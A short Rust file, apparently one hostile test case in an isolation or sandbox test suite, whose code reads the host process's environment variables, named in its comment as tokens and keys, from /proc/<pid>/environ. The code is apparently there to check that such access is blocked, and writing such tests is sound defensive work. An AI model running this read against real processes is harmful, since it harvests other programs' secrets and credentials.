//! Processes: reads the host's environment (tokens, keys) from
//! /proc/<pid>/environ. Input: the host's pid.

fn main() {
    pw_hostile::attack(|pid| {
        let bytes = pw_hostile::read_file(&format!("/proc/{pid}/environ"))?;
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    })
}
